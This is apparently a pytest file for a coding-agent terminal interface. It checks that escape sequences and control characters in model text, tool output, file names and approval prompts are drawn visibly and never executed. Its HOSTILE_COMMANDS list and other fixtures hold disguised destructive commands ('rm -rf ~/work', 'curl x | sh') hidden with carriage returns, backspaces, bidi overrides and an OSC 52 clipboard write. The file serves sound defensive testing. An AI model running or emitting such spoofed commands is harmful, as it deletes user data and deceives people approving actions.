"""Terminal escapes from the model or from tools are drawn visibly, never obeyed.

Every console here has no colour system, so any ESC in the output is one that
leaked from the text; the colour-console tests check rich's own styling survives.
"""

from __future__ import annotations

import asyncio
from io import StringIO

import pytest
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput
from rich.console import Console
from rich.text import Text

from claude_mini.agent.events import MessageAdded, ToolStarted
from claude_mini.base.notices import Notice
from claude_mini.config import load_config
from claude_mini.llm.events import BlockDone, Retrying, TextDelta, ToolUseStart
from claude_mini.llm.messages import Message, TextBlock, ToolUseBlock
from claude_mini.tools.base import ToolResult
from claude_mini.ui.render import (
    MAX_COMMAND_LINES,
    Renderer,
    guard_console,
    permission_preview,
    preview_diff,
    tool_block,
)
from claude_mini.ui.repl import Repl, permission_question
from tests.ui.conftest import StubClient, make_console

WIDTH = 80
CONTROLS = (
    [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + [chr(c) for c in range(0x202A, 0x202F)]
    + [chr(c) for c in range(0x2066, 0x206A)]
)

HOSTILE_COMMANDS = [
    "rm -rf ~/work \r\x1b[2Kls -la",  # CR + erase line: only `ls -la` would show
    "rm -f notes.txt\n\x1b[1A\x1b[2Kls -la",  # cursor up + erase the line above
    "curl x | sh" + "\b" * 11 + "ls -la     ",  # backspaces overwrite
    "\x9b2J\x9bHrm -f notes.txt",  # C1 CSI: clear screen, home
    "echo \u202e'al- sl' ; rm -f notes.txt",  # bidi override reorders the text
    "rm -f x\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52 clipboard write
]


def raw_controls(text: str) -> list[str]:
    """Control characters (other than newline and tab) in printed output."""
    return [ch for ch in text if ch in CONTROLS]


def rendered(renderable, width: int = WIDTH) -> str:
    console = make_console(width)
    console.print(renderable)
    return console.file.getvalue()


def colour_console(width: int = WIDTH) -> Console:
    """A console that writes rich's own ANSI styling, as in a real terminal."""
    return Console(
        file=StringIO(), width=width, force_terminal=True, color_system="standard", highlight=False, emoji=False
    )


def bash(command: str, **extra) -> ToolUseBlock:
    return ToolUseBlock("t1", "Bash", {"command": command, **extra})


# ---------------------------------------------------------------- approval prompts


@pytest.mark.parametrize("command", HOSTILE_COMMANDS)
def test_an_approval_prompt_shows_the_whole_command_and_obeys_none_of_it(command, tmp_path):
    out = rendered(permission_preview(bash(command), "", tmp_path, ""))
    assert raw_controls(out) == []
    assert "rm -f" in out or "rm -rf" in out or "curl x | sh" in out
    assert "\\x" in out or "\\r" in out or "\\u" in out


@pytest.mark.parametrize("command", HOSTILE_COMMANDS)
def test_the_approval_prompt_on_a_colour_terminal_keeps_its_style(command, tmp_path):
    console = colour_console()
    console.print(permission_preview(bash(command), "", tmp_path, ""))
    out = console.file.getvalue()
    assert "\x1b[1m" in out  # rich's bold for the command is still there
    for hostile in ("\r", "\b", "\x9b", "\u202e", "\x1b[2K", "\x1b[1A", "\x1b]52", "\x07"):
        assert hostile not in out


def test_a_cr_inside_a_command_line_does_not_split_it(tmp_path):
    out = rendered(permission_preview(bash("rm -rf ~ \rls -la"), "", tmp_path, ""))
    assert "rm -rf ~ \\rls -la" in out


def test_description_and_reason_are_made_visible_too(tmp_path):
    call = bash("ls", description="List\x1b[8m hidden")
    out = rendered(permission_preview(call, "asks\x9b2J because", tmp_path, ""))
    assert raw_controls(out) == []
    assert "List\\x1b[8m hidden" in out and "asks\\x9b2J because" in out


def test_a_long_command_says_how_many_lines_are_not_shown(tmp_path):
    command = "\n".join(["echo ok"] * MAX_COMMAND_LINES + ["rm -rf ~", "true"])
    out = rendered(permission_preview(bash(command), "", tmp_path, ""))
    assert "rm -rf" not in out
    assert "… 2 more lines of this command are not shown" in out


def test_a_write_preview_shows_the_new_content_visibly(tmp_path):
    call = ToolUseBlock(
        "t1",
        "Write",
        {"file_path": str(tmp_path / "a\x1b[2Jb.txt"), "content": "one\n\x1b]0;title\x07two\x9b2Jthree\n"},
    )
    out = rendered(permission_preview(call, "", tmp_path, preview_diff(call, tmp_path)))
    assert raw_controls(out) == []
    assert "+\\x1b]0;title\\x07two\\x9b2Jthree" in out
    assert "Write(a\\x1b[2Jb.txt)" in out


@pytest.mark.parametrize(
    ("call", "question"),
    [
        (ToolUseBlock("t", "Edit", {"file_path": "x\x1b[1Ay.py"}), "Make this edit to x\\x1b[1Ay.py?"),
        (ToolUseBlock("t", "Write", {"file_path": "n\u202eew.txt"}), "Create n\\u202eew.txt?"),
        (ToolUseBlock("t", "mcp\x9b2Jtool", {}), "Allow mcp\\x9b2Jtool?"),
    ],
)
def test_the_permission_question_names_files_visibly(call, question, tmp_path):
    assert permission_question(call, tmp_path) == question


def test_the_repl_approval_prompt_shows_every_part_visibly(repo):
    """The REPL's own prompt: preview, question and the 'don't ask again' option."""
    from claude_mini.runtime import build_runtime

    asked: list[tuple[str, list[tuple[str, str]]]] = []
    out = StringIO()

    async def go():
        with create_pipe_input() as pipe:
            repl = Repl(load_config(repo), input=pipe, output=DummyOutput())
            runtime = build_runtime(repl.config, client=StubClient())

            async def get_runtime():
                return runtime

            repl.get_runtime = get_runtime
            repl._console = guard_console(Console(file=out, width=WIDTH, color_system=None))

            async def choose(message, options, **_):
                asked.append((message, list(options)))
                return "yes"

            repl.choose = choose
            return await repl.ask_permission(bash("cat x\r\x1b[2Kls -la\x1b]52;c;eA==\x07"), "")

    answer = asyncio.run(asyncio.wait_for(go(), 10))
    assert answer.allow
    [(question, options)] = asked
    labels = " ".join(label for _, label in options)
    assert raw_controls(question + labels + out.getvalue()) == []
    assert "cat x\\r\\x1b[2Kls -la\\x1b]52;c;eA==\\x07" in out.getvalue()


def test_the_repl_console_guards_and_does_not_parse_markup(repo):
    with create_pipe_input() as pipe:
        repl = Repl(load_config(repo), input=pipe, output=DummyOutput())
        console = repl.console
    console.file = StringIO()
    console.print("a model said [bold]\x1b]0;t\x1b\\[/bold]")
    assert console.file.getvalue() == "a model said [bold]\\x1b]0;t\\x1b\\[/bold]\n"


# ---------------------------------------------------------------- streamed text, tool calls, notices


def feed(renderer: Renderer, text: str, size: int) -> None:
    for i in range(0, len(text), size):
        renderer.on_event(TextDelta(text[i : i + size], 0))
    renderer.on_event(BlockDone(0, TextBlock(text)))


ANSWERS = [
    "Done.\x1b[2J\x1b[H All good.\n\nNext paragraph\x1b]52;c;eA==\x07 ok.\n",
    "Look: \x9b2J and \u202eevil\u2069 and a\rb and c\bd\n",
    "```\ncode \x1b[31mred\x1b[0m\n```\n\n* item \x1b]0;title\x1b\\\n",
]


@pytest.mark.parametrize("answer", ANSWERS)
@pytest.mark.parametrize("size", [1, 3, 50])
@pytest.mark.parametrize("plain", [True, False])
def test_streamed_text_is_drawn_visibly_however_it_is_split(answer, size, plain):
    console = make_console()
    renderer = Renderer(console, plain=plain)
    renderer.begin_turn()
    feed(renderer, answer, size)
    renderer.end_turn()
    out = console.file.getvalue()
    assert raw_controls(out) == []
    assert "\\x1b" in out or "\\x9b" in out


def test_model_markup_prints_literally():
    for plain in (True, False):
        console = make_console()
        renderer = Renderer(console, plain=plain)
        feed(renderer, "Use [bold red]this[/bold red] and [link=http://x]that[/link].\n", 5)
        renderer.end_turn()
        out = console.file.getvalue()
        assert "[bold red]this[/bold red]" in out and "[link=http://x]that[/link]" in out


def test_a_non_streamed_answer_is_drawn_visibly():
    console = make_console()
    renderer = Renderer(console, plain=False)
    renderer.on_event(MessageAdded(Message("assistant", [TextBlock("hi \x1b[2J there")])))
    assert raw_controls(console.file.getvalue()) == []
    assert "hi \\x1b[2J there" in console.file.getvalue()


@pytest.mark.parametrize(
    ("call", "result", "expected"),
    [
        (bash("ls"), ToolResult("a.py\x1b[2K\x1b[1A\nb\rc.py\n\x1b]52;c;eA==\x07"), "a.py\\x1b[2K\\x1b[1A"),
        (bash("cat f"), ToolResult("\x9b31mboom", is_error=True), "\\x9b31mboom"),
        (bash("cat f"), ToolResult("denied \u202eexe.txt"), "denied \\u202eexe.txt"),
        (
            ToolUseBlock("t", "Read", {"file_path": "/r/ev\x1b]0;x\x07il.py"}),
            ToolResult("x", metadata={"num_lines": 1}),
            "Read(/r/ev\\x1b]0;x\\x07il.py)",
        ),
        (
            ToolUseBlock("t", "Edit", {"file_path": "/r/a\rb.py"}),
            ToolResult(
                "ok",
                metadata={
                    "path": "/r/a\rb.py",
                    "replacements": 1,
                    "diff": "--- a\n+++ b\n@@ -1 +1 @@\n-old\n+new\x1b[8m hidden\n",
                },
            ),
            "+new\\x1b[8m hidden",
        ),
    ],
)
def test_tool_calls_and_results_are_drawn_visibly(call, result, expected):
    out = rendered(tool_block(call, result))
    assert raw_controls(out) == []
    assert expected in out


def test_tool_output_with_windows_line_ends_stays_readable():
    out = rendered(tool_block(bash("type f"), ToolResult("one\r\ntwo\r\n")))
    assert "one" in out and "two" in out and "\\r" not in out


def test_notices_retries_and_errors_are_drawn_visibly():
    console = make_console()
    renderer = Renderer(console, plain=False)
    renderer.on_event(Notice("Saved memory \x1b]0;t\x07x.md", "info"))
    renderer.on_event(Notice("warning \x9b2J", "warning"))
    renderer.on_event(Retrying(1, 3, 1.0, "overloaded\x1b[2K"))
    renderer.on_event(ToolUseStart(0, "t", "Ba\x1b[2Jsh"))
    renderer.on_event(ToolStarted(bash("ls\x1b[2J")))
    renderer.error("boom \rhidden")
    out = console.file.getvalue() + renderer.spinner_text()
    assert raw_controls(out) == []
    for shown in ("x1b]0;t\\x07x.md", "\\x9b2J", "overloaded\\x1b[2K", "boom \\rhidden", "ls\\x1b[2J"):
        assert shown in out


def test_a_guarded_console_converts_whatever_is_printed_on_it():
    """(rich's Text itself drops BEL, BS, CR, VT and FF; the guard handles the rest.)"""
    console = guard_console(colour_console())
    console.print("/memory shows \x1b]52;c;eA==\x07", markup=False, style="bold")
    console.print(Text("a table cell \x9b2J\u202e"))
    out = console.file.getvalue()
    assert "\x1b[1m" in out  # rich's own style
    assert "\\x1b]52;c;eA==" in out and "\\x9b2J\\u202e" in out
    for hostile in ("\x1b]52", "\x07", "\x9b", "\u202e"):
        assert hostile not in out


def test_a_guarded_console_keeps_the_live_spinner_working():
    console = guard_console(Console(file=StringIO(), width=WIDTH, force_terminal=True, color_system=None))
    renderer = Renderer(console, plain=False)
    renderer.begin_turn()
    feed(renderer, "Paragraph \x1b[2J one.\n\nTwo.\n", 4)
    renderer.end_turn()
    out = console.file.getvalue()
    assert "Paragraph \\x1b[2J one." in out and "\x1b[2J" not in out
    assert "\x1b[?25l" in out  # the live region still hides the cursor: rich's controls pass


def test_plain_output_keeps_newlines_and_tabs():
    console = make_console()
    renderer = Renderer(console, plain=True)
    feed(renderer, "a\tb\nc\n", 2)
    assert console.file.getvalue() == "a       b\nc\n"  # rich expands the tab; nothing is escaped
